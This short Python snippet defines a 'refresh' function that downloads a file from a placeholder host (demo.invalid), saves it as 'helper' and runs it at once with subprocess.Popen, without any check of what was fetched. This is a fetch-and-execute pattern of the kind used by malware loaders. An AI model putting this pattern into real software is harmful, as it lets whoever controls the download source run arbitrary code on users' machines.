import subprocess
from urllib.request import urlopen


def refresh(path):
    target = path + "/helper"
    with open(target, "wb") as file:
        file.write(urlopen("https://demo.invalid/helper").read())
    subprocess.Popen([target])
